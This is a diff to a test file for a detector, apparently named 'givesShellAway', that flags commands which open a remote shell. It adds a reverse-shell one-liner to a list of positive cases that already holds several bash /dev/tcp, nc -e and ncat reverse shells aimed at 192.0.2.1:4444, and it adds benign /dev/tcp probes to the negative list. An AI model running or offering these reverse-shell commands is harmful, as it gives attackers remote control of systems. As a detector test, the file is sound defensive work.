@@ -63,6 +63,7 @@ describe('givesShellAway', () => {
     'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1',
     'bash -c "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"',
     'exec 5<>/dev/tcp/192.0.2.1/4444; cat <&5 | while read l; do $l 2>&5 >&5; done',
+    '0<&196;exec 196<>/dev/tcp/192.0.2.1/4444; sh <&196 >&196 2>&196',
     'sh -i 5<> /dev/tcp/192.0.2.1/4444 0<&5 1>&5 2>&5',
     'nc -e /bin/sh 192.0.2.1 4444',
     'ncat 192.0.2.1 4444 --sh-exec "/bin/bash"',
@@ -83,6 +84,8 @@ describe('givesShellAway', () => {
 
   it.each([
     'timeout 1 bash -c "</dev/tcp/db.example.com/5432"',
+    `bash -c 'exec 3<>/dev/tcp/127.0.0.1/9000; echo -e "GET /health/ready HTTP/1.1\\r\\n" >&3; cat <&3 | grep -q UP'`,
+    'exec 3<>/dev/tcp/192.0.2.1/80; cat <&3; exec 3<&-; exec 3>&-',
     'until (echo > /dev/tcp/localhost/8080) 2>/dev/null; do sleep 1; done',
     'nc -z db.example.com 5432',
     'nc -lvnp 4444',
